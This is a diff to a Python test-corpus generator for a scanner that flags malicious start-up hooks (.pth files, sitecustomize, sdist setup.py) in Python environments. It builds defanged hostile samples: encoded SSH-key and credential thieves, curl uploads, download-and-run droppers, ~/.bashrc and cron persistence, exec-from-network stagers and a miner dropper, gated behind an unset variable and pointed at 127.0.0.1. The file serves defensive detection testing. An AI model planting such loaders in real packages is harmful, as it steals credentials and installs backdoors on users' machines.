@@ -96,8 +96,11 @@ cases["litellm-init"] = (
         # the payload rules recognise the shape under any name
         e("teampcp-pth-launcher", "critical", SP + "/litellm_init.pth", 1),
         e("teampcp-pth-launcher", "critical", SP + "/zz_telemetry.pth", 1),
-        e("obf-exec-decoded", "high", SP + "/litellm_init.pth", 1),
-        e("obf-exec-decoded", "high", SP + "/zz_telemetry.pth", 1),
+        e("obf-exec-decoded", "medium", SP + "/litellm_init.pth", 1),
+        e("obf-exec-decoded", "medium", SP + "/zz_telemetry.pth", 1),
+        # the `python -c` code is analysed: base64 decoded into exec
+        e("flow-decoded-exec", "high", SP + "/litellm_init.pth", 1),
+        e("flow-decoded-exec", "high", SP + "/zz_telemetry.pth", 1),
     ],
 )
 cases["dot-named-pth"] = (
@@ -140,8 +143,12 @@ cases["start-entry-payload"] = (
         f(SP + "/_telemetry/boot.py", stealer),
         e("START001", "high", SP + "/telemetry.start", 2, ["3.15-3.17"]),
         e("IMP001", "high", SP + "/_telemetry/boot.py", 3),
-        e("cred-sweep-stores", "high", SP + "/_telemetry/boot.py", 1),
-        e("cred-ssh-keys", "high", SP + "/_telemetry/boot.py", 14),
+        # text rules are capped at medium for Python; the behaviour (files read → sent) is high
+        e("cred-sweep-stores", "medium", SP + "/_telemetry/boot.py", 1),
+        e("cred-ssh-keys", "medium", SP + "/_telemetry/boot.py", 14),
+        # the key files read in a loop over their paths and sent
+        e("flow-credential-send", "critical", SP + "/_telemetry/boot.py", 17),
+        e("credential-read-send", "high", SP + "/_telemetry/boot.py", 17),
     ],
 )
 cases["hidden-module"] = (
@@ -151,8 +158,11 @@ cases["hidden-module"] = (
         f(SP + "/_sysmon_init.py", stealer),
         e("PTH001", "high", SP + "/sysmon_telemetry.pth", 2),
         e("IMP001", "high", SP + "/_sysmon_init.py", 3),
-        e("cred-sweep-stores", "high", SP + "/_sysmon_init.py", 1),
-        e("cred-ssh-keys", "high", SP + "/_sysmon_init.py", 14),
+        e("cred-sweep-stores", "medium", SP + "/_sysmon_init.py", 1),
+        e("cred-ssh-keys", "medium", SP + "/_sysmon_init.py", 14),
+        # the key files read in a loop over their paths and sent
+        e("flow-credential-send", "critical", SP + "/_sysmon_init.py", 17),
+        e("credential-read-send", "high", SP + "/_sysmon_init.py", 17),
     ],
 )
 cases["customize-forms"] = (
@@ -165,9 +175,10 @@ cases["customize-forms"] = (
         e("CUS002", "critical", SP + "/sitecustomize.pyc"),
         e("CUS003", "high", "venv/lib/python3.12/lib-dynload/sitecustomize.cpython-312-x86_64-linux-gnu.so"),
         e("CUS001", "high", SP + "/usercustomize/__init__.py", 2),
-        e("obf-exec-decoded", "high", SP + "/usercustomize/__init__.py", 2),
-        # the stealer's strings survive compilation
-        e("cred-sweep-stores", "high", SP + "/sitecustomize.pyc", 1),
+        e("obf-exec-decoded", "medium", SP + "/usercustomize/__init__.py", 2),
+        e("flow-decoded-exec", "high", SP + "/usercustomize/__init__.py", 2),
+        # the stealer's strings survive compilation (a text rule, capped at medium for Python)
+        e("cred-sweep-stores", "medium", SP + "/sitecustomize.pyc", 1),
     ],
 )
 cases["path-into-shm"] = (
@@ -303,23 +314,31 @@ cases["litellm-1828-chain"] = (
         e("ioc-dist-litellm-teampcp", "critical", SP + "/litellm-1.82.8.dist-info/METADATA"),
         e("PTH001", "critical", SP + "/litellm_init.pth", 1),
         e("teampcp-pth-launcher", "critical", SP + "/litellm_init.pth", 1),
-        e("obf-exec-decoded", "high", SP + "/litellm_init.pth", 1),
-        # layer 1 (base64): stage 2
+        e("obf-exec-decoded", "medium", SP + "/litellm_init.pth", 1),
+        e("flow-decoded-exec", "high", SP + "/litellm_init.pth", 1),
+        # layer 1 (base64): stage 2. Capability text rules are capped at medium for Python.
         e("teampcp-markers", "critical", SP + "/litellm_init.pth", 1),
         e("teampcp-encrypted-exfil", "critical", SP + "/litellm_init.pth", 1),
         e("teampcp-sysmon-persistence", "critical", SP + "/litellm_init.pth", 1),
-        e("exfil-curl-upload", "high", SP + "/litellm_init.pth", 1),
-        e("exfil-filename-header", "high", SP + "/litellm_init.pth", 1),
+        e("exfil-curl-upload", "medium", SP + "/litellm_init.pth", 1),
+        e("exfil-filename-header", "medium", SP + "/litellm_init.pth", 1),
         e("obf-long-literal-exec", "medium", SP + "/litellm_init.pth", 1),
-        e("obf-nested-encoding", "high", SP + "/litellm_init.pth", 1),
+        e("obf-nested-encoding", "medium", SP + "/litellm_init.pth", 1),
+        # the curl upload of /tmp/tpcp.tar.gz (one finding per rule and line, whichever layer)
+        e("process-upload", "high", SP + "/litellm_init.pth", 1),
+        # the harvester reads credential stores and sends in one file
+        e("credential-read-send", "high", SP + "/litellm_init.pth", 1),
         # layer 2 (base64 → base64): the harvester (B64_SCRIPT) and the sysmon.py backdoor (PERSIST_B64)
-        e("cred-sweep-stores", "high", SP + "/litellm_init.pth", 1),
-        e("cred-ssh-keys", "high", SP + "/litellm_init.pth", 1),
-        e("cred-k8s-token", "high", SP + "/litellm_init.pth", 1),
-        e("cred-secret-files", "high", SP + "/litellm_init.pth", 1),
-        e("exfil-archive-upload", "high", SP + "/litellm_init.pth", 1),
-        e("drop-download-run", "high", SP + "/litellm_init.pth", 1),
-        e("drop-fetch-write-run", "high", SP + "/litellm_init.pth", 1),
+        e("cred-sweep-stores", "medium", SP + "/litellm_init.pth", 1),
+        e("cred-ssh-keys", "medium", SP + "/litellm_init.pth", 1),
+        e("cred-k8s-token", "medium", SP + "/litellm_init.pth", 1),
+        e("cred-secret-files", "medium", SP + "/litellm_init.pth", 1),
+        e("exfil-archive-upload", "medium", SP + "/litellm_init.pth", 1),
+        e("drop-download-run", "medium", SP + "/litellm_init.pth", 1),
+        e("drop-fetch-write-run", "medium", SP + "/litellm_init.pth", 1),
+        # the harvester's archive sent and the backdoor's chmod
+        e("flow-file-send", "high", SP + "/litellm_init.pth", 1),
+        e("flow-download-run", "high", SP + "/litellm_init.pth", 1),
     ],
 )
 
@@ -352,13 +371,21 @@ cases["litellm-1827-proxy-server"] = (
         f(LLM + "/proxy/__init__.py", ""),
         f(LLM + "/proxy/proxy_server.py", proxy_src),
         e("ioc-dist-litellm-teampcp", "critical", SP + "/litellm-1.82.7.dist-info/METADATA"),
-        e("obf-decode-then-exec", "high", LLM + "/proxy/proxy_server.py", dec_line),
-        # the decoded harvester, located at the encoded literal
-        e("cred-sweep-stores", "high", LLM + "/proxy/proxy_server.py", inj_line),
-        e("cred-ssh-keys", "high", LLM + "/proxy/proxy_server.py", inj_line),
-        e("cred-k8s-token", "high", LLM + "/proxy/proxy_server.py", inj_line),
-        e("cred-secret-files", "high", LLM + "/proxy/proxy_server.py", inj_line),
-        e("exfil-archive-upload", "high", LLM + "/proxy/proxy_server.py", inj_line),
+        e("obf-decode-then-exec", "medium", LLM + "/proxy/proxy_server.py", dec_line),
+        # the decoded harvester, located at the encoded literal (text rules capped at medium)
+        e("cred-sweep-stores", "medium", LLM + "/proxy/proxy_server.py", inj_line),
+        e("cred-ssh-keys", "medium", LLM + "/proxy/proxy_server.py", inj_line),
+        e("cred-k8s-token", "medium", LLM + "/proxy/proxy_server.py", inj_line),
+        e("cred-secret-files", "medium", LLM + "/proxy/proxy_server.py", inj_line),
+        e("exfil-archive-upload", "medium", LLM + "/proxy/proxy_server.py", inj_line),
+        # its archive sent: in the decoded literal, and in the `python -c` code it is run as
+        e("flow-file-send", "high", LLM + "/proxy/proxy_server.py", inj_line),
+        e("flow-file-send", "high", LLM + "/proxy/proxy_server.py", dec_line + 1),
+        # the decoded harvester given to a child interpreter (`python -c`) is executed
+        e("flow-decoded-exec", "high", LLM + "/proxy/proxy_server.py", dec_line + 1),
+        # it reads credential stores and sends in one file: evidence (a module's function)
+        e("credential-read-send", "medium", LLM + "/proxy/proxy_server.py", inj_line),
+        e("credential-read-send", "medium", LLM + "/proxy/proxy_server.py", dec_line + 1),
     ],
     ["--deep"],
 )
@@ -392,17 +419,29 @@ ssh_steal = guarded(
     """
 )
 src = "import base64, zlib\nexec(zlib.decompress(base64.b64decode('%s')))\n" % b64(zlib.compress(ssh_steal.encode()))
+# what the thief's decoded code does, every finding at the line of the encoded literal: text rules are
+# capped at medium for Python; the behaviour rules (key read → sent) are not
+THIEF = [("cred-ssh-keys", "medium"), ("credential-read-send", "high"), ("flow-credential-send", "critical")]
+
+
+def thief(line):
+    return [(rule, sev, line) for rule, sev in THIEF]
+
+
 hook_case("enc-base64-zlib", "A hook module that runs base64 → zlib → an SSH key thief.", src,
-          [("obf-exec-decoded", "high", 2), ("cred-ssh-keys", "high", 2)])
+          [("obf-exec-decoded", "medium", 2), ("flow-decoded-exec", "high", 2)] + thief(2))
 
 hexsrc = "exec(bytes.fromhex('%s'))\n" % ssh_steal.encode().hex()
+# the thief's send, once from the decoded layer and once from the exec'd code analysed
 hook_case("enc-hex", "A hook module that runs hex-encoded code.", hexsrc,
-          [("obf-exec-decoded", "high", 1), ("cred-ssh-keys", "high", 1)])
+          [("obf-exec-decoded", "medium", 1), ("flow-decoded-exec", "high", 1)] + thief(1)
+          + [("credential-read-send", "high", 1), ("flow-credential-send", "critical", 1)])
 
 rev = b64(ssh_steal)[::-1]
 revsrc = "import base64\n_p = '%s'\nexec(base64.b64decode(_p[::-1]))\n" % rev
 hook_case("enc-reversed", "Base64 stored reversed and flipped with [::-1] before exec.", revsrc,
-          [("obf-exec-decoded", "high", 3), ("cred-ssh-keys", "high", 2)])
+          [("obf-exec-decoded", "medium", 3), ("flow-decoded-exec", "high", 3)] + thief(2)
+          + [("credential-read-send", "high", 3), ("flow-credential-send", "critical", 3)])
 
 rot = codecs_rot = "".join(
     chr((ord(c) - 97 + 13) % 26 + 97) if "a" <= c <= "z" else chr((ord(c) - 65 + 13) % 26 + 65) if "A" <= c <= "Z" else c
@@ -410,37 +449,52 @@ rot = codecs_rot = "".join(
 )
 rotsrc = "import codecs\n_c = '%s'\nos.environ.get('PTHSCAN_CORPUS_NEVER_SET') == 'armed' and exec(codecs.decode(_c, 'rot13'))\n" % rot
 hook_case("enc-rot13", "A rot13-encoded pipe-to-shell command.", "import os\n" + rotsrc,
-          [("obf-exec-decoded", "high", 4), ("drop-pipe-to-shell", "high", 3)])
+          [("obf-exec-decoded", "medium", 4), ("flow-decoded-exec", "high", 4), ("drop-pipe-to-shell", "medium", 3),
+           # curl | sh, in the decoded literal and in the exec'd code
+           ("process-fetch-run", "high", 3), ("process-fetch-run", "high", 4)])
 
 enc = b64(ssh_steal)
 pieces = [enc[i : i + 60] for i in range(0, len(enc), 60)]
 splitsrc = "import base64\n_p = (\n" + "".join("    '%s'\n" % p for p in pieces) + ")\nexec(base64.b64decode(_p))\n"
 hook_case("enc-split-strings", "Base64 split over many adjacent string literals.", splitsrc,
-          [("obf-exec-decoded", "high", len(pieces) + 4), ("cred-ssh-keys", "high", 3)])
+          [("obf-exec-decoded", "medium", len(pieces) + 4), ("flow-decoded-exec", "high", len(pieces) + 4)] + thief(3)
+          + [("credential-read-send", "high", len(pieces) + 4), ("flow-credential-send", "critical", len(pieces) + 4)])
 
 cmd = 'os.system("curl -s -F f=@/etc/hostname http://127.0.0.1:9/")'
 chrsrc = "import os\n_c = ''.join(map(chr, [%s]))\nos.environ.get('PTHSCAN_CORPUS_NEVER_SET') == 'armed' and exec(_c)\n" % ", ".join(str(ord(c)) for c in cmd)
+# the character codes fold to a constant: the code it executes is analysed, a curl upload
 hook_case("enc-chr-join", "A command built from character codes, then executed.", chrsrc,
-          [("obf-chr-join", "high", 2), ("exfil-curl-upload", "high", 2)], imp=("medium", 0))
+          [("obf-chr-join", "medium", 2), ("exfil-curl-upload", "medium", 2), ("process-upload", "high", 2),
+           ("process-upload", "high", 3)],
+          imp=("medium", 0))
 
 lz = "import base64, lzma\nexec(lzma.decompress(base64.b64decode('%s')))\n" % b64(lzma.compress(ssh_steal.encode()))
-hook_case("enc-lzma", "base64 → xz payload.", lz, [("obf-exec-decoded", "high", 2), ("cred-ssh-keys", "high", 2)])
+hook_case("enc-lzma", "base64 → xz payload.", lz,
+          [("obf-exec-decoded", "medium", 2), ("flow-decoded-exec", "high", 2)] + thief(2))
 
 bz = "import base64, bz2\nexec(bz2.decompress(base64.b64decode('%s')))\n" % b64(bz2.compress(ssh_steal.encode()))
-hook_case("enc-bz2", "base64 → bz2 payload.", bz, [("obf-exec-decoded", "high", 2), ("cred-ssh-keys", "high", 2)])
+hook_case("enc-bz2", "base64 → bz2 payload.", bz,
+          [("obf-exec-decoded", "medium", 2), ("flow-decoded-exec", "high", 2)] + thief(2))
 
 urlsafe = "import base64\nexec(base64.urlsafe_b64decode('%s'))\n" % base64.urlsafe_b64encode(("#" * 3 + "?>" + ssh_steal).encode()).decode()
-hook_case("enc-urlsafe", "URL-safe base64 payload.", urlsafe, [("obf-exec-decoded", "high", 2), ("cred-ssh-keys", "high", 2)])
+hook_case("enc-urlsafe", "URL-safe base64 payload.", urlsafe,
+          [("obf-exec-decoded", "medium", 2), ("flow-decoded-exec", "high", 2)] + thief(2)
+          + [("credential-read-send", "high", 2), ("flow-credential-send", "critical", 2)])
 
 triple = ssh_steal
 for _ in range(3):
     triple = "import base64\nexec(base64.b64decode('%s'))\n" % b64(triple)
+# the inner layers are exec'd code analysed in turn: two decoded execs and two sends, one per depth
 hook_case("enc-triple-base64", "Three nested base64 layers.", triple,
-          [("obf-exec-decoded", "high", 2), ("obf-nested-encoding", "high", 2), ("cred-ssh-keys", "high", 2)])
+          [("obf-exec-decoded", "medium", 2), ("obf-nested-encoding", "medium", 2),
+           ("flow-decoded-exec", "high", 2), ("flow-decoded-exec", "high", 2)] + thief(2)
+          + [("credential-read-send", "high", 2), ("flow-credential-send", "critical", 2)])
 
 oneliner = "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'%s'))\n" % b64(zlib.compress(ssh_steal.encode()))[::-1]
+# the lambda decodes its argument: flow-decoder-exec; the decoded thief is caught by its send
 hook_case("enc-obfuscator-oneliner", "The packer one-liner: reversed base64 of zlib behind a lambda.", "import os\n" + oneliner,
-          [("obf-import-decode-exec", "high", 2), ("obf-decode-then-exec", "high", 2), ("cred-ssh-keys", "high", 2)])
+          [("obf-import-decode-exec", "medium", 2), ("obf-decode-then-exec", "medium", 2),
+           ("flow-decoder-exec", "high", 2)] + thief(2))
 
 start_payload = "import base64\n\ndef run():\n    exec(base64.b64decode('%s'))\n" % b64(ssh_steal)
 cases["start-encoded-entry"] = (
@@ -451,8 +505,13 @@ cases["start-encoded-entry"] = (
         f(SP + "/_metrics/boot.py", start_payload),
         e("START001", "high", SP + "/metrics.start", 1, ["3.15-3.17"]),
         e("IMP001", "high", SP + "/_metrics/boot.py", 4),
-        e("obf-exec-decoded", "high", SP + "/_metrics/boot.py", 4),
-        e("cred-ssh-keys", "high", SP + "/_metrics/boot.py", 4),
+        e("obf-exec-decoded", "medium", SP + "/_metrics/boot.py", 4),
+        e("flow-decoded-exec", "high", SP + "/_metrics/boot.py", 4),
+    ]
+    + [e(rule, sev, SP + "/_metrics/boot.py", line) for rule, sev, line in thief(4)]
+    + [
+        e("credential-read-send", "high", SP + "/_metrics/boot.py", 4),
+        e("flow-credential-send", "critical", SP + "/_metrics/boot.py", 4),
     ],
     [],
 )
@@ -468,8 +527,11 @@ systemd_writer = guarded(
     """
 )
 hook_case("persist-systemd-writer", "A hook module that installs a systemd user unit running ~/.config/x/x.py.", systemd_writer,
-          [("persist-systemd-unit", "high", line_of(systemd_writer, ".config/systemd/user")),
-           ("persist-config-script", "high", line_of(systemd_writer, "corpus-telemetry.service"))],
+          [("persist-systemd-unit", "medium", line_of(systemd_writer, ".config/systemd/user")),
+           ("persist-config-script", "medium", line_of(systemd_writer, "corpus-telemetry.service")),
+           # the behaviours: the unit written, then enabled
+           ("persist-write", "high", line_of(systemd_writer, "corpus-telemetry.service")),
+           ("process-persist", "high", line_of(systemd_writer, "systemctl"))],
           imp=("medium", 4))
 
 cron_writer = guarded(
@@ -478,7 +540,7 @@ cron_writer = guarded(
     """
 )
 hook_case("persist-cron-writer", "A hook module that adds an @reboot cron entry.", cron_writer,
-          [("persist-cron", "high", 3)], imp=("medium", 3))
+          [("persist-cron", "medium", 3), ("process-persist", "high", 3)], imp=("medium", 3))
 
 rc_writer = guarded(
     """\
@@ -487,7 +549,7 @@ rc_writer = guarded(
     """
 )
 hook_case("persist-shell-rc-writer", "A hook module that appends a download to ~/.bashrc.", rc_writer,
-          [("persist-shell-rc", "high", 3)], imp=("medium", 3))
+          [("persist-shell-rc", "medium", 3), ("persist-write", "high", line_of(rc_writer, "f.write"))], imp=("medium", 3))
 
 env_exfil = guarded(
     """\
@@ -501,7 +563,8 @@ cases["sitecustomize-env-exfil"] = (
     [
         f(SP + "/sitecustomize.py", env_exfil),
         e("CUS001", "high", SP + "/sitecustomize.py", 3),
-        e("cred-env-secrets", "high", SP + "/sitecustomize.py", 4),
+        e("cred-env-secrets", "medium", SP + "/sitecustomize.py", 4),
+        e("flow-environ-send", "high", SP + "/sitecustomize.py", line_of(env_exfil, "urlopen")),
     ],
     [],
 )
@@ -589,17 +652,33 @@ cases["deep-package-payloads"] = (
         e("k8s-kube-system-implant", "critical", PKG + "/k8s_pod.py", line_of(pod, "hostPID")),
         e("teampcp-node-setup-pod", "critical", PKG + "/k8s_pod.py", line_of(pod, "hostPID")),
         e("k8s-list-all-secrets", "high", PKG + "/k8s_secrets.py", line_of(secrets, "serviceaccount/token")),
+        # the token sent at import time: critical; reading and sending in one file: evidence
+        e("flow-credential-send", "critical", PKG + "/k8s_secrets.py", line_of(secrets, "urlopen(req)")),
+        e("credential-read-send", "medium", PKG + "/k8s_secrets.py", line_of(secrets, "urlopen(req)")),
+        # a hard-coded webhook with its token is a literal, not capped; capability text rules
+        # are capped at medium for Python, the behaviour rules are not
         e("exfil-chat-webhook", "high", PKG + "/browser.py", line_of(webhook, "discord.com")),
-        e("cred-browser-stores", "high", PKG + "/browser.py", line_of(webhook, "encrypted_key")),
-        e("cred-dotenv-sweep", "high", PKG + "/dotenv_sweep.py", line_of(dotenv, "os.walk")),
-        e("drop-download-run", "high", PKG + "/update.py", line_of(dropper, "urlretrieve")),
-        e("obf-exec-decoded", "high", PKG + "/c2.py", 2),
-        e("drop-download-exec", "high", PKG + "/c2.py", 2),
+        e("cred-browser-stores", "medium", PKG + "/browser.py", line_of(webhook, "encrypted_key")),
+        e("flow-credential-send", "critical", PKG + "/browser.py", line_of(webhook, "discord.com")),
+        e("flow-to-exfil-channel", "critical", PKG + "/browser.py", line_of(webhook, "discord.com")),
+        e("credential-read-send", "medium", PKG + "/browser.py", line_of(webhook, "discord.com")),
+        # the .env files collected with list.append and posted at import
+        e("cred-dotenv-sweep", "medium", PKG + "/dotenv_sweep.py", line_of(dotenv, "os.walk")),
+        e("flow-file-send", "high", PKG + "/dotenv_sweep.py", line_of(dotenv, "requests.post")),
+        e("drop-download-run", "medium", PKG + "/update.py", line_of(dropper, "urlretrieve")),
+        e("flow-download-run", "high", PKG + "/update.py", line_of(dropper, "os.chmod")),
+        e("obf-exec-decoded", "medium", PKG + "/c2.py", 2),
+        e("drop-download-exec", "medium", PKG + "/c2.py", 2),
+        e("flow-decoded-exec", "high", PKG + "/c2.py", 2),
+        # the decoded C2 poller, located at the encoded literal
+        e("flow-network-exec", "critical", PKG + "/c2.py", 2),
         e("ioc-net-checkmarx-zone", "critical", PKG + "/c2.py", 2),
         e("teampcp-wav-stager", "critical", PKG + "/_client.py", line_of(wav, "ringtone.wav")),
-        e("obf-exec-decoded", "high", PKG + "/_client.py", line_of(wav, "exec(")),
-        e("obf-exec-decoded", "high", PKG + "/loader.py", 2),
-        e("obf-marshal-exec", "high", PKG + "/loader.py", 2),
+        e("obf-exec-decoded", "medium", PKG + "/_client.py", line_of(wav, "exec(")),
+        e("flow-decoded-exec", "high", PKG + "/_client.py", line_of(wav, "exec(")),
+        e("obf-exec-decoded", "medium", PKG + "/loader.py", 2),
+        e("obf-marshal-exec", "medium", PKG + "/loader.py", 2),
+        e("flow-decoded-exec", "high", PKG + "/loader.py", 2),
     ],
     ["--deep"],
 )
@@ -632,7 +711,8 @@ cases["deep-record-script"] = (
     ]
     + [
         f(SP + "/corpus-tool-1.0.dist-info/RECORD", record_of("corpus-tool-1.0.dist-info", tool_files)),
-        e("drop-download-run", "high", "venv/bin/corpus-update", line_of(script, "urlretrieve")),
+        e("drop-download-run", "medium", "venv/bin/corpus-update", line_of(script, "urlretrieve")),
+        e("flow-download-run", "high", "venv/bin/corpus-update", line_of(script, "os.chmod")),
     ],
     ["--deep"],
 )
@@ -655,8 +735,13 @@ honest = {
 cases["benign-same-apis"] = (
     "Honest library code that uses the same APIs as the payloads (boto-style credential files and IMDS, the kubernetes "
     "client's token and secrets calls, coverage's exec, requests, paramiko's keys, python-crontab, conda init, a "
-    "Discord webhook client, dotenv lookup, an embedded icon, an uploader), scanned with --deep: nothing is reported.",
-    [dist("honest", "1.0")] + [f(SP + "/" + path, text) for path, text in honest.items()],
+    "Discord webhook client, dotenv lookup, an embedded icon, an uploader), scanned with --deep: nothing reaches high.",
+    [dist("honest", "1.0")] + [f(SP + "/" + path, text) for path, text in honest.items()]
+    + [
+        # what a library module may do when asked, below high
+        e("process-persist", "medium", SP + "/crontab_like/crontab.py", 6),
+        e("flow-file-send", "low", SP + "/uploader_like/upload.py", 6),
+    ],
     ["--deep"],
 )
 
@@ -679,12 +764,896 @@ cases["start-entry-point-group"] = (
         f("other/lib/python3.12/site-packages/quiet-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: quiet\nVersion: 1.0\n\n"),
         f("other/lib/python3.12/site-packages/quiet-1.0.dist-info/entry_points.txt", "[sitecustomize]\nq = quiet_boot:init\n"),
         e("EP003", "high", SP + "/otel_boot-0.3.dist-info/entry_points.txt", 2),
-        e("cred-sweep-stores", "high", SP + "/_otel_boot.py", 1),
-        e("cred-ssh-keys", "high", SP + "/_otel_boot.py", 14),
+        e("cred-sweep-stores", "medium", SP + "/_otel_boot.py", 1),
+        e("cred-ssh-keys", "medium", SP + "/_otel_boot.py", 14),
+        # the key files read in a loop over their paths and sent
+        e("flow-credential-send", "critical", SP + "/_otel_boot.py", 17),
+        e("credential-read-send", "high", SP + "/_otel_boot.py", 17),
         e("CUS001", "medium", SP + "/sitecustomize.py"),
         e("EP003", "info", "other/lib/python3.12/site-packages/quiet-1.0.dist-info/entry_points.txt", 2),
     ],
 )
+
+# ---------------------------------------------------------------------------------------------
+# Issue 19 shapes. `shape-*`: what the text rules missed, each where it runs (an sdist's setup.py,
+# a module a .pth imports, a package module under --deep). `benign-*`: the honest twins of what
+# they raised alarms on; a twin may keep findings below high, never one at high or above.
+import io
+import sys
+import tarfile
+
+
+def sdist(name, files):
+    """An sdist `dist/NAME.tar.gz` (stored encoded, STYLE 14): PKG-INFO and `files` under NAME/,
+    with fixed times so the bytes are the same on every run."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
+        project, version = name.rsplit("-", 1)
+        members = [("PKG-INFO", "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (project, version))] + files
+        for rel, text in members:
+            data = text.encode()
+            info = tarfile.TarInfo("%s/%s" % (name, rel))
+            info.size, info.mtime, info.mode = len(data), 1700000000, 0o644
+            t.addfile(info, io.BytesIO(data))
+    import gzip
+    gz = gzip.compress(buf.getvalue(), compresslevel=9, mtime=0)
+    # beside an environment, so that the folder scanned is one and the sdist an artifact in it
+    return dist("setuptools", "69.0") + "\n" + f("dist/%s.tar.gz" % name, b64data=b64(gz))
+
+
+def in_sdist(name, rel="setup.py"):
+    return "dist/%s.tar.gz › %s/%s" % (name, name, rel)
+
+
+NEVER = 'os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed"'
+
+# A1: spaces before `(` in `os.system (…)` and `expanduser (…)`: a setup.py dropper that
+# persists through ~/.bashrc
+drv_setup = textwrap.dedent(
+    """\
+    import os
+    from setuptools import setup
+
+    if os.environ.get ("PTHSCAN_CORPUS_NEVER_SET") == "armed":
+        drv = os.path.expanduser ("~/.drv")
+        os.system ("curl -fsSL http://127.0.0.1:9/drv -o " + drv)
+        os.system ("chmod +x " + drv)
+        with open (os.path.expanduser ("~/.bashrc"), "a") as rc:
+            rc.write ("\\n~/.drv &\\n")
+
+    setup(name="drv-demo", version="1.0", packages=[])
+    """
+)
+SHAPE_CASES = {}
+SHAPE_CASES["shape-setup-space-paren"] = (
+    "An sdist's setup.py that downloads to ~/.drv, chmods it and appends `~/.drv &` to ~/.bashrc, written with a "
+    "space before every `(` (`os.system (…)`, `expanduser (…)`).",
+    [sdist("drv-demo-1.0", [("setup.py", drv_setup)])],
+    [],
+)
+
+# A2: `import requests as rs; exec(rs.get(u).text)` in a module a .pth imports
+rs_mod = guarded(
+    """\
+    import requests as rs
+    exec(rs.get("http://127.0.0.1:9/stage2.py").text)
+    """
+)
+SHAPE_CASES["shape-requests-alias-exec"] = (
+    "A .pth imports a module that runs `exec(rs.get(u).text)` with requests imported as `rs`.",
+    [f(SP + "/rs_boot.pth", "import _rs_boot\n"), f(SP + "/_rs_boot.py", rs_mod)],
+    [],
+)
+
+# A3: `import marshal as m; exec(m.loads(…))`
+code_obj = compile('print("pthscan corpus: defanged sample")\n', "<corpus>", "exec")
+import marshal as _marshal
+marsh_alias = guarded(
+    """\
+    import base64, marshal as m
+    exec(m.loads(base64.b64decode("%s")))
+    """
+    % b64(_marshal.dumps(code_obj))
+)
+SHAPE_CASES["shape-marshal-alias-exec"] = (
+    "A .pth imports a module that runs `exec(m.loads(…))` with marshal imported as `m`.",
+    [f(SP + "/m_boot.pth", "import _m_boot\n"), f(SP + "/_m_boot.py", marsh_alias)],
+    [],
+)
+
+# A4: network → variable → exec, with requests and with urlopen (import-time, found with --deep)
+var_requests = guarded(
+    """\
+    import requests
+    p = requests.get("http://127.0.0.1:9/p.py").text
+    banner = "checking for updates"
+    exec(p)
+    """
+)
+var_urlopen = guarded(
+    """\
+    from urllib.request import urlopen
+    resp = urlopen("http://127.0.0.1:9/p.py")
+    payload = resp.read().decode("utf-8")
+    exec(payload, {"__name__": "__main__"})
+    """
+)
+VP = SP + "/updater_pkg"
+SHAPE_CASES["shape-network-var-exec"] = (
+    "Package modules that fetch code into a variable and exec it a few lines later: `p = requests.get(u).text … "
+    "exec(p)` and `urlopen(u)` → `.read().decode()` → exec. Found with --deep.",
+    [dist("updater-pkg", "1.0"), f(VP + "/__init__.py", ""), f(VP + "/fetch.py", var_requests),
+     f(VP + "/legacy.py", var_urlopen)],
+    ["--deep"],
+)
+
+# A5: look-alike letters that NFKC folds to `exec`
+harmless_b64 = b64('print("pthscan corpus: defanged sample")\n')
+lookalike_math = guarded(
+    """\
+    import base64
+    \U0001d68e\U0001d6a1\U0001d68e\U0001d68c(base64.b64decode("%s"))
+    """
+    % harmless_b64
+)
+lookalike_full = guarded(
+    """\
+    import base64
+    \uff45\uff58\uff45\uff43(base64.b64decode("%s"))
+    """
+    % harmless_b64
+)
+SHAPE_CASES["shape-lookalike-exec"] = (
+    "A .pth imports modules that call exec under look-alike names Python folds to `exec` (NFKC): mathematical "
+    "monospace `𝚎𝚡𝚎𝚌(…)` and fullwidth `ｅｘｅｃ(…)`.",
+    [f(SP + "/lookalike.pth", "import _mono_boot\nimport _wide_boot\n"),
+     f(SP + "/_mono_boot.py", lookalike_math), f(SP + "/_wide_boot.py", lookalike_full)],
+    [],
+)
+
+# A6: a bytecode-only start-up payload: the .pth imports a module that exists only as a legacy
+# sourceless `mod.pyc` beside it (no __pycache__), in a 3.11 environment matching the bytecode
+assert sys.version_info[:2] == (3, 11), "run with CPython 3.11 (the shape-pyc-only-module case's bytecode)"
+pyc_payload = guarded(
+    """\
+    import urllib.request
+    exec(urllib.request.urlopen("http://127.0.0.1:9/stage2.py").read())
+    """
+)
+with open(os.path.join(tmp, "_pyc_boot.py"), "w") as fh:
+    fh.write(pyc_payload)
+py_compile.compile(
+    os.path.join(tmp, "_pyc_boot.py"),
+    cfile=os.path.join(tmp, "_pyc_boot.pyc"),
+    dfile="_pyc_boot.py",
+    doraise=True,
+    invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
+)
+with open(os.path.join(tmp, "_pyc_boot.pyc"), "rb") as fh:
+    pyc_only = fh.read()
+SP311 = "venv311/lib/python3.11/site-packages"
+SHAPE_CASES["shape-pyc-only-module"] = (
+    "A .pth imports a module that exists only as bytecode: a legacy sourceless `_pyc_boot.pyc` beside it (no "
+    "source, no __pycache__), fetching code and exec'ing it; CPython 3.11 bytecode in a 3.11 environment.",
+    [f("venv311/pyvenv.cfg", "home = /usr/bin\nversion = 3.11.7\n"),
+     f(SP311 + "/pyc_boot.pth", "import _pyc_boot\n"), f(SP311 + "/_pyc_boot.pyc", b64data=b64(pyc_only))],
+    [],
+)
+
+# A7: a miner dropper: curl in list form into /tmp, chmod, Popen detached with setsid
+miner = guarded(
+    """\
+    import subprocess
+    subprocess.call(["curl", "-s", "-o", "/tmp/.kworker", "http://127.0.0.1:9/xmrig"])
+    os.chmod("/tmp/.kworker", 0o755)
+    subprocess.Popen(["/tmp/.kworker", "-o", "pool.example.invalid:3333", "-u", "defanged-wallet", "--donate-level", "1"],
+                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid)
+    """
+)
+SHAPE_CASES["shape-miner-curl-list"] = (
+    "A .pth imports a miner dropper: `curl` in list form into /tmp, `os.chmod`, `Popen` detached with "
+    "`preexec_fn=os.setsid`.",
+    [f(SP + "/kworker.pth", "import _kworker\n"), f(SP + "/_kworker.py", miner)],
